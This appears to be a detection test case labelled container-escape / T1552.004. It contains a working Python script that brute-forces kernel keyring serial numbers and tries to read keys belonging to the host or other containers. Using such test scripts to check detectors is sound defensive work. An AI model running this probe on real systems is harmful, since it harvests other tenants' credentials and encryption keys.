# category: container-escape
# technique: T1552.004
# art: no
# expect: credential-search
# image: debian
# desc: the kernel keyring is not namespaced: a container walks key serial numbers with keyctl(KEYCTL_DESCRIBE) and tries KEYCTL_READ on those it finds, looking for the host's or other containers' keys (kerberos tickets, dm-crypt and ecryptfs keys), as the keyctl-unmask tool does; python ctypes, read only
python3 - <<'PY'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NR_KEYCTL, DESCRIBE, READ = 250, 6, 11
listed = [int(l.split()[0], 16) for l in open("/proc/keys")]
print("keys in /proc/keys:", len(listed))
found, buf = 0, ctypes.create_string_buffer(512)
for serial in sorted(set(listed) | set(range(1, 3000)) | set(range(100000000, 100001000))):
    n = libc.syscall(NR_KEYCTL, DESCRIBE, serial, buf, 512)
    if n < 0:
        continue
    found += 1
    desc = buf.value.decode(errors="replace")
    r = libc.syscall(NR_KEYCTL, READ, serial, buf, 512)
    print(f"key {serial}: {desc}", f"(read {r} bytes)" if r >= 0 else f"(read: {os.strerror(ctypes.get_errno())})")
print("keys described:", found)
PY
